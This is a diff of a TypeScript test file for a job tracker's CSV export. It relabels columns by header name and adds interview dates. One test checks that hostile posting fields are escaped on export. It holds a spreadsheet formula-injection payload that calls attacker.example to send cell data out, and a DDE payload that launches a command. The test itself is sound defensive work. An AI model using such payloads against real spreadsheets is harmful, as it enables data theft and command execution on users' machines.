@@ -124,6 +124,10 @@ describe('JSON export', () => {
   });
 });
 
+/** A CSV line's cell under `header`. */
+const col = (line: string[] | undefined, header: (typeof CSV_HEADER)[number]) =>
+  line?.[CSV_HEADER.indexOf(header)];
+
 describe('tracker CSV', () => {
   it('lists saved postings with dates, salary and notes, but not merely seen ones', async () => {
     const rows = cells(await buildTrackerCsv());
@@ -133,12 +137,12 @@ describe('tracker CSV', () => {
     expect(byTitle.has('Pflegefachkraft (m/w/d) Intensivstation')).toBe(false);
     const lead = byTitle.get('Customer Support Lead');
     expect(lead?.slice(1, 4)).toEqual(['MaplePay', 'Toronto, ON', 'applied']);
-    expect(lead?.[9]).toBe('72000–85000 CAD per year');
-    expect(lead?.[11]).toBe('Referred by Priya (ex-colleague), "priority" pipeline');
+    expect(col(lead, 'Salary')).toBe('72000–85000 CAD per year');
+    expect(col(lead, 'Notes')).toBe('Referred by Priya (ex-colleague), "priority" pipeline');
     const comptable = byTitle.get('Comptable fournisseurs (H/F)');
-    expect(comptable?.[1]).toBe('Rhône Logistique');
-    expect(comptable?.[7]).toBe('2026-05-31');
-    expect(comptable?.[11]).toBe(
+    expect(col(comptable, 'Company')).toBe('Rhône Logistique');
+    expect(col(comptable, 'Deadline')).toBe('2026-05-31');
+    expect(col(comptable, 'Notes')).toBe(
       'Relancer Mme Dubois le 16 mars\nTél. standard: +33 4 72 00 00 00',
     );
   });
@@ -153,8 +157,8 @@ describe('tracker CSV', () => {
     await recordCapture(hostile, supportExtraction, T0 + 5 * DAY);
     await setStatus(hostile.jobKey, 'saved', T0 + 5 * DAY);
     const row = cells(await buildTrackerCsv()).find((r) => r[0]?.includes('HYPERLINK'));
-    expect(row?.[0]).toBe(`'=HYPERLINK("https://attacker.example/?"&A1,"Apply")`);
-    expect(row?.[1]).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    expect(col(row, 'Title')).toBe(`'=HYPERLINK("https://attacker.example/?"&A1,"Apply")`);
+    expect(col(row, 'Company')).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
   });
 });
 
@@ -173,6 +177,7 @@ describe('toCsv', () => {
     deadline: null,
     reminderAt: null,
     contacts: [],
+    interviews: [],
     extraction: {
       posting: {
         title: 'Técnico de mantenimiento',
@@ -196,6 +201,10 @@ describe('toCsv', () => {
       title: null,
       company: null,
       status: 'interviewing',
+      interviews: [
+        { at: new Date(2026, 2, 24, 10).getTime(), label: 'Entrevista técnica', place: null },
+        { at: new Date(2026, 2, 31, 16).getTime(), label: 'Con la dirección', place: 'Zaragoza' },
+      ],
     };
     const events: StatusEvent[] = [
       {
@@ -232,9 +241,12 @@ describe('toCsv', () => {
       'interviewing',
       '2026-03-20',
     ]);
-    expect(row?.[9]).toBe('from 24000 EUR per year');
-    expect(row?.[10]).toBe('https://example.com/jobs/1');
-    expect(row?.[11]).toBe('primera llamada\n\nsegunda entrevista');
+    expect(col(row, 'Interviews')).toBe(
+      '2026-03-24 Entrevista técnica\n2026-03-31 Con la dirección',
+    );
+    expect(col(row, 'Salary')).toBe('from 24000 EUR per year');
+    expect(col(row, 'URL')).toBe('https://example.com/jobs/1');
+    expect(col(row, 'Notes')).toBe('primera llamada\n\nsegunda entrevista');
   });
 
   it('formats salary ranges without locale separators', () => {
